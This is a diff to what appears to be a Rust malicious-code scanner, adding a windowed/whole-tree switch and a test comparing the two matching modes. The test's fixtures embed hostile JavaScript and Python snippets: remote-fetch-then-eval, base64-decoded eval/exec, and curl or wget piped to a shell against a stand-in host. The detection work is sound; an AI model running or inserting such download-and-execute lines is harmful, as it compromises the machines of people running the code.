@@ -243,6 +243,17 @@ impl CombinedQuery {
         text: &str,
         wanted: impl Fn(usize) -> bool,
     ) -> HashMap<usize, Vec<Hit>> {
+        self.run_in(segment, text, wanted, true)
+    }
+
+    /// As [`CombinedQuery::run`]; `windowed: false` walks the whole tree (tests compare the two).
+    fn run_in(
+        &self,
+        segment: &Segment,
+        text: &str,
+        wanted: impl Fn(usize) -> bool,
+        windowed: bool,
+    ) -> HashMap<usize, Vec<Hit>> {
         let mut hits: HashMap<usize, Vec<Hit>> = HashMap::new();
         let Some(tree) = segment.tree(text) else {
             return hits;
@@ -254,6 +265,7 @@ impl CombinedQuery {
         let windows = self
             .windows
             .as_ref()
+            .filter(|_| windowed)
             .and_then(|finder| finder.windows(segment_text));
         let ranges = windows
             .clone()
@@ -421,6 +433,83 @@ mod tests {
             .collect();
         hits.sort();
         hits
+    }
+
+    #[test]
+    fn windows_around_literals_find_what_the_whole_walk_finds() {
+        let rules =
+            RuleSet::embedded(&crate::rule_set::testing::AnyName).unwrap_or_else(|e| panic!("{e}"));
+        let cases = [
+            (
+                "lib/payload.js",
+                [
+                    "const cp = require('child_process');\nconst https = require('https');\n",
+                    "https.get('https://x.example.invalid/a', (r) => { let b = ''; r.on('data', (c) => b += c); r.on('end', () => eval(b)); });\n",
+                    "function f() { eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n",
+                    "cp.exec('curl -s https://x.example.invalid/i.sh | sh'); }\nnew Function(atob('YWxlcnQoMSk='))();\n",
+                ],
+                "var filler = 1;\n",
+            ),
+            (
+                "pkg/payload.py",
+                [
+                    "import os, subprocess, base64\n",
+                    "exec(base64.b64decode('cHJpbnQoMSk='))\n",
+                    "def f():\n    subprocess.run('curl -s https://x.example.invalid/i.sh | sh', shell=True)\n",
+                    "os.system('wget -qO- https://x.example.invalid/i.sh | bash')\n",
+                ],
+                "filler = 1\n",
+            ),
+        ];
+        for (path, pieces, filler) in cases {
+            // The pieces far apart in a segment large enough for the combined query: several windows.
+            let gap = filler.repeat(20_000 / filler.len());
+            let text = pieces.join(&gap);
+            let text = format!("{text}{}", filler.repeat(COMBINED_MIN_BYTES / filler.len()));
+            let grammar = if path.ends_with(".py") {
+                Grammar::Python
+            } else {
+                Grammar::Javascript
+            };
+            let language = if path.ends_with(".py") {
+                Language::Python
+            } else {
+                Language::Javascript
+            };
+            let queries: Vec<usize> = (0..rules.rules.len())
+                .filter(|i| matches!(rules.rules[*i].matcher, Matcher::Query { .. }))
+                .collect();
+            let selection = rules.combined.selection(&rules.rules, &queries, &text);
+            let built = rules
+                .combined
+                .get(grammar, &rules.rules, &selection)
+                .unwrap();
+            let combined = built.get().unwrap();
+            let windows = combined
+                .windows
+                .as_ref()
+                .and_then(|finder| finder.windows(&text));
+            if grammar == Grammar::Javascript {
+                // (Some Python query rule has a part without literals: that query walks it all.)
+                let count = windows.as_ref().map_or(0, Vec::len);
+                assert!(count > 1, "{path}: several windows: {windows:?}");
+            }
+            let segments = crate::segment::segment_file(&text, language, path);
+            let segment = &segments[0];
+            let windowed = combined.run_in(segment, &text, |_| true, true);
+            let whole = combined.run_in(segment, &text, |_| true, false);
+            let spans = |hits: &HashMap<usize, Vec<Hit>>| {
+                let mut all: Vec<(usize, usize, usize)> = hits
+                    .iter()
+                    .flat_map(|(rule, list)| list.iter().map(|h| (*rule, h.start, h.end)))
+                    .collect();
+                all.sort_unstable();
+                all.dedup();
+                all
+            };
+            assert!(spans(&whole).len() >= 3, "{path}: {:?}", spans(&whole));
+            assert_eq!(spans(&windowed), spans(&whole), "{path}");
+        }
     }
 
     #[test]
